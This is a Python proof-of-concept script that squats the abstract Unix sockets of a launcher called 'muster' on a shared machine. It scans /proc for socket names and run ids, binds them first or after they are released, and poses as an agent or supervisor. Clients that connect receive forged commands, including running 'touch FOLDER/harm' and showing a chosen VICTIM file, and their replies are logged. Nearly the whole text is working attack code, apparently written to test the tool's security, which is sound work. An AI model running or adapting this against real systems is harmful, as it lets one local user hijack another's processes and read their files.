"""What another user of a machine may do to its abstract sockets: `python squatter.py FOLDER VICTIM`.

It sees each name that others bind, and each run id on a command line. What it could take, it takes: names of earlier
versions of muster, names that were seen on another host, and each name as soon as nobody has it any more. Whoever
comes is answered as an agent or a supervisor would, with what would do harm; what is sent is written down in FOLDER.
VICTIM is the file that it wants to have shown.
"""

from __future__ import annotations

import glob
import json
import os
import re
import selectors
import socket
import struct
import sys
from typing import Any

folder, victim = sys.argv[1:]
me = f"{socket.gethostname()}.{os.getpid()}"
mine: dict[str, socket.socket] = {}
selector = selectors.DefaultSelector()


def frame(**fields: Any) -> bytes:
    text = json.dumps(fields).encode()
    return struct.pack("!II", len(text), 0) + text


ORDER = {
    "argv": ["touch", f"{folder}/harm"],
    "args_index": None,
    "cwd": "/",
    "env_defaults": {},
    "visible": {},
    "cpus": [],
    "env": {},
    "hook": "",
    "stack": {},
    "out": "/dev/null",
    "err": "/dev/null",
    "grace": 1.0,
    "place": {"local_rank": 0, "local_world_size": 1, "node": 0, "world_size": 1, "nodes": 1},
    "asked": {"0": [victim, 0]},
    "texts": {"0": "forged"},
    "mute": {},
    "phase": "running",
    "alive": [0],
    "attempt": 0,
    "parted": [],
}


def write(name: str, text: str) -> None:
    with open(f"{folder}/{me}.{name}", "a") as file:
        file.write(text + "\n")


def bind(name: str) -> None:
    if name in mine:
        return
    trap = socket.socket(socket.AF_UNIX)
    trap.setblocking(False)
    try:
        trap.bind("\0" + name)
    except OSError:
        trap.close()
        return
    trap.listen(100)
    mine[name] = trap
    selector.register(trap, selectors.EVENT_READ)
    write("bound", name)


def came(trap: socket.socket) -> None:
    victim, _ = trap.accept()
    victim.setblocking(False)
    try:
        victim.sendall(frame(kind="answer", **ORDER) + frame(kind="rank_command", **ORDER))
    except OSError:
        pass
    selector.register(victim, selectors.EVENT_READ)


def spoke(victim: socket.socket) -> None:
    try:
        data = victim.recv(1 << 16)
    except OSError:
        data = b""
    if data:
        write("heard", repr(data))
    else:
        selector.unregister(victim)
        victim.close()


os.umask(0)
write("bound", "")
seen: set[str] = set()
while True:
    with open("/proc/net/unix") as file:
        now = set(re.findall(r"@(muster/\S+)", file.read())) - set(mine)
    for name in now - seen:
        write("seen", name)
    for path in glob.glob(f"{folder}/*.seen"):
        with open(path) as file:
            seen |= set(file.read().split())
    runs = {name.rpartition("/")[0] for name in seen}
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, errors="replace") as file:
                found = re.findall(r"\d{8}-\d{6}-[0-9a-f]{4,}(?:-[\w.-]+)?(?=[\0/]|\.pyz)", file.read())
        except OSError:
            continue
        runs |= {f"muster/0/{run}" for run in found}
    for run in runs:
        for who in ("0", "1", "2", "supervisor", "agent"):
            bind(f"{run}/{who}")
    for name in seen - now:
        bind(name)
    for key, _ in selector.select(0.002):
        (came if key.fileobj in mine.values() else spoke)(key.fileobj)  # type: ignore[arg-type]
